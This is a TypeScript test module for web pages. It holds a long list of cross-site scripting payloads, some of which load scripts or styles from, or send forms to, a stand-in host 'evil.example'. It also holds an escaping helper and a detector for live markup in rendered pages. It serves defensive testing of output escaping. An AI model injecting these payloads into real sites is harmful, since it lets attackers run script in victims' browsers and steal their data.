/** Ways in which words try to become a script, as people write them into questions, names and titles. */
const HANDLERS = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'onanimationstart',
  'ontoggle',
  'onpointerenter',
];
const TAGS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'iframe',
  'marquee',
  'a href=#',
];
const PLAIN = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">点这里</a>',
  '<a href="data:text/html,<script>alert(1)</script>">点这里</a>',
  '<form action="//evil.example"><button>提交</button></form>',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel="stylesheet" href="//evil.example/x.css">',
  '<style>@import "//evil.example/x.css"</style>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<math><mtext></mtext><script>alert(1)</script></math>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=1 href=1 onerror="javascript:alert(1)"></img>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  '#{alert(1)} {{constructor.constructor("alert(1)")()}}',
  '[1](javascript:alert(1)) ![x](x"onerror="alert(1))',
];

/** More than a hundred, each of which would run or load something where it is not shown as words. */
export const SCRIPTS: readonly string[] = [
  ...PLAIN,
  ...TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=alert(1)>`)),
  ...HANDLERS.map((handler) => `" ${handler}="alert(1)`),
];

/** A part of them, for what a browser tries with all. */
export const FEW_SCRIPTS: readonly string[] = [...PLAIN, ...SCRIPTS.slice(-HANDLERS.length)].filter(
  (_, i) => i % 3 === 0,
);

/** Words as they stand in a page. */
export const escaped = (words: string): string =>
  words.replace(/[&<>"']/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#39;' })[c] ?? c);

/** What of a page's markup is none of ours: elements and attributes that run or load, and addresses that lead elsewhere. */
export function liveIn(page: string): string[] {
  const tags = page.match(/<[^>]*>/g) ?? [];
  const scripts = tags.filter((tag) => /^<script/i.test(tag));
  return [
    ...(scripts.length === 1 && scripts[0]?.includes(' src="/') ? [] : scripts),
    ...tags.filter((tag) => /^<(?:iframe|object|embed|base|style|img|video|math|marquee|template|noscript)/i.test(tag)),
    ...tags.filter((tag) =>
      /^<meta[^>]*http-equiv|\s(?:on[a-z]+|style|srcdoc)\s*=/i.test(tag.replace(/"[^"]*"/g, '""')),
    ),
    ...tags.filter((tag) => /\s(?:href|src|action)="(?!\/(?!\/)|#|data:,")/.test(tag)),
  ];
}
